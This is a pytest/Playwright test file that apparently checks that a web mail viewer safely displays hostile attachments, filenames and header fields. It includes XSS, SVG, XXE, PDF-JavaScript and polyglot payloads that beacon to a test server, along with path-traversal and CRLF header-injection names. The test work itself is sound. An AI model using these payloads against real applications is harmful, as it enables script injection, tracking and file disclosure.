"""Hostile files, names and fields in a browser: each is opened, and none runs, loads or changes anything."""

from __future__ import annotations

import contextlib
import datetime as dt
from collections.abc import Iterator
from email.message import EmailMessage
from email.policy import SMTP

import pytest
from asking import Http
from elsewhere import Elsewhere, running
from mails import PIXEL, mail, put
from playwright.sync_api import Error, expect

NOW = dt.datetime.now(dt.UTC)


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    with running() as server:
        yield server


@pytest.fixture
def http(web) -> Iterator[Http]:
    client = Http(web.host, web.port)
    yield client
    client.close()


HTML = """<!doctype html><script>fetch("{there}/{n}-script");top.owned=1</script>
<img src="{there}/{n}-img" onerror="top.owned=2"><iframe src="{there}/{n}-frame"></iframe>
<meta http-equiv=refresh content="0;url={there}/{n}-refresh"><link rel=stylesheet href="{there}/{n}-style">
<form action="{there}/{n}-form" id=f></form><script>f.submit()</script>"""
SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9"
 height="9" onload="fetch('{there}/{n}-onload')"><script>fetch("{there}/{n}-script");top.owned=1</script>
<image href="{there}/{n}-image" width="9" height="9"/><image xlink:href="{there}/{n}-xlink"/>
<style>@import url({there}/{n}-import); rect {{ fill: url({there}/{n}-fill#a) }}</style>
<rect width="9" height="9"/>
<use href="{there}/{n}-use#a"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml"
 src="{there}/{n}-foreign"></iframe></foreignObject>
<animate attributeName="href" to="{there}/{n}-animate"/></svg>"""
XSLT = """<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{there}/{n}-xsl"?>
<!DOCTYPE a [<!ENTITY x SYSTEM "{there}/{n}-entity"> <!ENTITY % y SYSTEM "{there}/{n}-dtd"> %y;]>
<a xmlns:h="http://www.w3.org/1999/xhtml">&x;<h:script>top.owned=1</h:script></a>"""
CALENDAR = """BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nDTSTART:20261126T150000Z\r
SUMMARY:<script>top.owned=1</script><img src="{there}/{n}-img">\r\nURL:javascript:top.owned=2\r
LOCATION:"><iframe src="{there}/{n}-frame">\r\nATTACH:{there}/{n}-attach\r
ORGANIZER;CN="<img src={there}/{n}-organizer>":javascript:top.owned=3\r
IMAGE;VALUE=URI:{there}/{n}-image\r\nSOURCE;VALUE=URI:{there}/{n}-source\r
BEGIN:VALARM\r\nACTION:AUDIO\r\nATTACH:{there}/{n}-alarm\r\nEND:VALARM\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"""
PDF = """%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI({there}/{n}-uri)>>
/AA<</WC<</S/JavaScript/JS(app.launchURL\\("{there}/{n}-launch"\\))>>>>
/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(this.submitForm\\("{there}/{n}-submit"\\);app.alert\\(1\\))>>]>>>>
/AcroForm<</Fields[]/XFA(<xdp><subform><event activity="initialize"><submit
 target="{there}/{n}-xfa"/></event>)>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/AA<</O<</S/GoToR/F<</FS/URL/F({there}/{n}-goto)>>>>>>
/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 100]
/A<</S/SubmitForm/F<</FS/URL/F({there}/{n}-link)>>>>>>]>>endobj
trailer<</Root 1 0 R>>
%%EOF
<script>fetch("{there}/{n}-polyglot")</script>"""
LETTER = (
    'From: a@example.org\r\nSubject: <img src="{there}/{n}-subject">\r\nContent-Type: text/html\r\n\r\n'
    + HTML
)

# What it is called, its type, what is in it.
FILES = [
    ("page.html", "text/html", HTML),
    ("page.xhtml", "application/xhtml+xml", HTML),
    ("picture.svg", "image/svg+xml", SVG),
    ("picture.png", "image/png", HTML),
    ("picture.gif", "image/gif", "GIF89a/*" + HTML + "*/=0;"),
    ("photo.jpg", "image/jpeg", "\xff\xd8\xff\xe0" + HTML),
    ("icon.ico", "image/x-icon", SVG),
    ("picture.svg.html", "image/svg+xml", HTML),
    ("bitmap.bmp", "image/bmp", "BM" + SVG),
    ("paper.pdf", "application/pdf", PDF),
    ("page.pdf", "application/pdf", HTML),
    ("invitation.ics", "text/calendar", CALENDAR),
    ("invitation2.ics", "application/ics", CALENDAR),
    ("sheet.xml", "text/xml", XSLT),
    ("sheet2.xml", "application/xml", XSLT),
    ("feed.atom", "application/atom+xml", XSLT),
    ("script.js", "text/javascript", 'fetch("{there}/{n}-js");top.owned=1'),
    ("style.css", "text/css", "@import url({there}/{n}-css)"),
    ("data.json", "application/json", '{{"a": "<script>top.owned=1</script>{there}/{n}-json"}}'),
    ("notes.txt", "text/plain", HTML),
    ("table.csv", "text/csv", '=HYPERLINK("{there}/{n}-csv"),<img src={there}/{n}-cell>'),
    ("archive.mht", "multipart/related", HTML),
    ("letter.eml", "message/rfc822", LETTER),
    ("sound.wav", "audio/wav", HTML),
    ("film.mp4", "video/mp4", HTML),
    ("list.m3u8", "audio/mpegurl", "#EXTM3U\n#EXTINF:1\n{there}/{n}-segment"),
    ("captions.vtt", "text/vtt", "WEBVTT\n\n00:00.000 --> 00:01.000\n<c><img src={there}/{n}-vtt>"),
    ("flash.swf", "application/x-shockwave-flash", "FWS" + HTML),
    ("thing.hta", "application/hta", HTML),
    ("unnamed", "text/html;charset=utf-7", "+ADw-script+AD4-top.owned=1+ADw-/script+AD4-"),
    ("quirk", "TEXT/HTML\t", HTML),
    ("none", "*/*", HTML),
    ("sniff", "application/octet-stream", HTML),
    ("report", "message/delivery-status", HTML),
]

NAMES = [
    '"><script>top.owned=1</script>.pdf',
    "' onmouseover='top.owned=1' x='.png",
    "../../../../etc/passwd",
    "..\\..\\windows\\system.ini",
    "invoice\u202egpj.exe",
    "a\r\nSet-Cookie: owned=1\r\n\r\n<script>.html",
    "name\x00.html",
    "javascript:top.owned=1",
    "data:text/html,<script>top.owned=1</script>",
    "{{ 7 * 7 }}{% raw %}${7*7}",
    "CON.png",
    "\ud83d\ude00" * 100 + ".png",
    "x" * 3_000 + ".png",
    "%0d%0aX-Owned: 1",
    "=?utf-8?q?=3Cscript=3Etop.owned=3D1=3C/script=3E?=",
    "a;b=c, d.png",
    "\u2028\u2029\u0085.png",
]


def carrying(files: list[tuple[str, str, bytes]]) -> bytes:
    """A mail made by hand: the library refuses most of what is attached here."""
    lines = [b"From: orders@shop.example", b"To: ada@example.org", b"Subject: Files", b"MIME-Version: 1.0"]
    lines += [b'Content-Type: multipart/mixed; boundary="edge"', b""]
    lines += [b"--edge", b"Content-Type: text/html", b"", b"<p id=shown>shown</p>"]
    for name, kind, octets in files:
        quoted = name.encode("utf-8", "replace").replace(b"\\", b"\\\\").replace(b'"', b'\\"')
        lines += [b"--edge", f"Content-Type: {kind}".encode(), b'Content-Disposition: attachment; filename="']
        lines[-1] += quoted.replace(b"\r", b"").replace(b"\n", b" ") + b'"'
        lines += [b"Content-Transfer-Encoding: 8bit", b"", octets]
    return b"\r\n".join([*lines, b"--edge--", b""])


def hostile(elsewhere: Elsewhere) -> bytes:
    return carrying(
        [
            (name, kind, text.format(there=elsewhere.url, n=number).encode("latin-1"))
            for number, (name, kind, text) in enumerate(FILES)
        ]
    )


def control(page, elsewhere) -> None:
    """Ask for something elsewhere on purpose: whatever was asked for before it has been noted then."""
    # Not even a connection, which tells who looks at a mail and when.
    assert elsewhere.connected == 0
    other = page.context.new_page()
    other.goto(f"{elsewhere.url}/control")
    other.close()


def watch(page) -> list[str]:
    """The dialogs that open and the changes that are asked for, from now on."""
    seen: list[str] = []
    page.on("dialog", lambda dialog: (seen.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on(
        "request", lambda r: seen.append(f"{r.method} {r.url}") if r.method not in ("GET", "HEAD") else None
    )
    return seen


def test_no_hostile_file_runs_or_loads_anything_where_it_is_opened(sink, elsewhere, page):
    message_id = put(sink, hostile(elsewhere), at=NOW, read=True)
    seen = watch(page)
    opened = 0
    page.goto(f"/messages/{message_id}?view=parts")
    links = page.locator(".attachments b a").evaluate_all("all => all.map(a => a.getAttribute('href'))")

    for link in links:
        page.goto(link, wait_until="load")
        opened += page.locator("#file, iframe, .reading").count() > 0
        assert page.evaluate("window.owned") is None, link

    control(page, elsewhere)
    assert len(links) >= 28
    assert opened == len(links)
    assert elsewhere.leaks == ["GET /control HTTP/1.1"]
    assert seen == []


def test_no_hostile_file_runs_or_loads_anything_in_a_tab_of_its_own(sink, web, elsewhere, page):
    message_id = put(sink, hostile(elsewhere), at=NOW, read=True)
    page.context.set_default_timeout(5_000)
    seen = watch(page)
    parts = sink.everything.get(message_id).parsed.parts
    reached = []
    page.context.on("response", lambda r: reached.append(r.url) if "/parts/" not in r.url else None)

    for part in parts[1:]:
        for query in ("", "?inline=true"):
            tab = page.context.new_page()
            # What is to be saved opens no page: Chromium calls that an error.
            with contextlib.suppress(Error):
                tab.goto(f"/api/messages/{message_id}/parts/{part.number}{query}", wait_until="load")
            tab.close()

    assert [url for url in reached if url.startswith(web.url) and "favicon" not in url] == []
    control(page, elsewhere)
    assert elsewhere.leaks == ["GET /control HTTP/1.1"]
    assert seen == []


def test_no_file_name_is_more_than_a_name(sink, http, page):
    message_id = put(sink, carrying([(name, "image/png", PIXEL) for name in NAMES]), at=NOW, read=True)

    page.goto(f"/messages/{message_id}?view=parts&part=2")
    parts = sink.everything.get(message_id).parsed.parts[1:]

    assert page.evaluate("window.owned") is None
    assert page.locator("script:not([src])").count() == 0
    assert page.locator(".attachment").count() == len(NAMES)
    assert page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")
    for part in parts:
        answer = http.get(f"/api/messages/{message_id}/parts/{part.number}")
        disposition = answer.headers["Content-Disposition"]
        assert "Set-Cookie" not in answer.headers
        assert "X-Owned" not in answer.headers
        assert disposition.startswith('attachment; filename="')
        assert "/" not in disposition.split("filename*")[0].removeprefix("attachment; filename=")
        assert disposition.isprintable()


FIELDS = {
    "From": '"<script>top.owned=1</script>" <a@example.org>',
    "To": "=?utf-8?q?=3Cimg_src=3Dx_onerror=3Dtop.owned=3D1=3E?= <ada@example.org>",
    "Reply-To": "javascript:top.owned=1",
    "Subject": "</title><script>top.owned=1</script>{{ 7*7 }}",
    "Date": "<svg onload=top.owned=1>",
    "Message-ID": '<"><script>top.owned=1</script>@x>',
    "List-Unsubscribe": "<javascript:top.owned=1>, <{there}/unsubscribe>",
    "List-Unsubscribe-Post": "List-Unsubscribe=One-Click",
    "Content-Language": '"><script>top.owned=1</script>',
    "Content-Base": "{there}/base/",
    "Content-Location": "{there}/location",
    "Link": "<{there}/preload>; rel=preload; as=image",
    "Refresh": "0; url={there}/refresh",
    "Set-Cookie": "owned=1",
    "Location": "{there}/moved",
    "X-Frame-Options": "ALLOWALL",
    "Content-Security-Policy": "default-src *; script-src * 'unsafe-inline'",
    "Face": "iVBORw0KGgo=",
    "X-Image-URL": "{there}/image",
    "BIMI-Location": "v=BIMI1; l={there}/logo.svg",
    "Disposition-Notification-To": "<spy@example.org>",
    "Return-Receipt-To": "spy@example.org",
    "Autocrypt": "addr=a@example.org; keydata={there}/key",
    "Archived-At": "<{there}/archive>",
}


def test_no_field_is_more_than_words_in_any_view(sink, http, elsewhere, page):
    fields = "".join(
        f"{name}: {value.format(there=elsewhere.url) if '{there}' in value else value}\r\n"
        for name, value in FIELDS.items()
    )
    content = f"{fields}Content-Type: text/html\r\n\r\n<p>Code 482913 <a href='javascript:top.owned=1'>x</a>"
    message_id = put(
        sink,
        content.encode(),
        at=NOW,
        sender='"<script>top.owned=1</script>"@example.org',
        rcpt=('"><img src=x onerror=top.owned=1>@example.org',),
    )
    seen = watch(page)

    for view in ("preview", "text", "headers", "headers&as=sent", "source", "parts", "codes"):
        page.goto(f"/messages/{message_id}?view={view}")
        assert page.evaluate("window.owned") is None
        assert page.locator("script:not([src])").count() == 0
        assert page.locator("a[href^='javascript' i]").count() == 0
    page.goto("/")
    expect(page.locator(".row")).to_have_count(1)

    answer = http.get(f"/messages/{message_id}/preview")
    assert not {"Refresh", "Set-Cookie", "Location", "Link"} & set(answer.headers)
    assert "unsafe-inline'; script" not in answer.headers["Content-Security-Policy"]
    assert page.context.cookies() == []
    control(page, elsewhere)
    assert elsewhere.leaks == ["GET /control HTTP/1.1"]
    # Opening it marks it read, and that is all.
    assert {line.split()[0] for line in seen} <= {"PATCH"}


def test_an_attached_message_is_as_harmless_as_any(sink, elsewhere, page):
    inner = mail("Inner", "See the HTML part.", html=HTML.format(there=elsewhere.url, n="inner"))
    outer = EmailMessage(policy=SMTP)
    outer["Subject"] = "Outer"
    outer.set_content("Forwarded")
    outer.add_attachment(inner)
    message_id = put(sink, bytes(outer), at=NOW, read=True)

    page.goto(f"/messages/{message_id}?view=parts")
    page.get_by_role("link", name="Inner", exact=True).click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Inner")
    expect(page.locator("iframe")).to_be_visible()
    page.get_by_role("link", name="Parts", exact=False).first.click()

    control(page, elsewhere)
    assert elsewhere.leaks == ["GET /control HTTP/1.1"]
    assert page.evaluate("window.owned") is None


def test_a_pdf_is_drawn_in_a_sandbox_of_its_own(sink, http, page):
    message_id = put(sink, carrying([("a.pdf", "application/pdf", b"%PDF-1.4\n")]), at=NOW, read=True)

    page.goto(f"/messages/{message_id}?view=parts&part=2")

    frame = page.locator("#file iframe")
    expect(frame).to_be_visible()
    answer = http.get(frame.get_attribute("src"))
    assert answer.headers["Content-Security-Policy"].endswith("; sandbox")
    assert answer.headers["Content-Type"] == "application/pdf"
